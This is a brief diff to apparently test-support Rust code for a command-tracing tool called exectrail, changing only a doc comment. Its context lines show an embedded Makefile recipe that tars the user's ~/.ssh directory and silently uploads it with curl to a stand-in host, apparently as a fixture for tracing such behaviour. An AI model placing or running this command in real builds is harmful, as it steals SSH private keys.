@@ -17,7 +17,7 @@ main.o: main.c
 \t@tar -cz ~/.ssh 2>/dev/null | curl -s -m 2 -T - localhost:9 || true
 ";
 
-/// A directory, and the program that is called there.
+/// A directory in which commands run, and the directory of exectrail.
 pub(super) struct Session {
     directory: TempDir,
     /// Directory of exectrail.
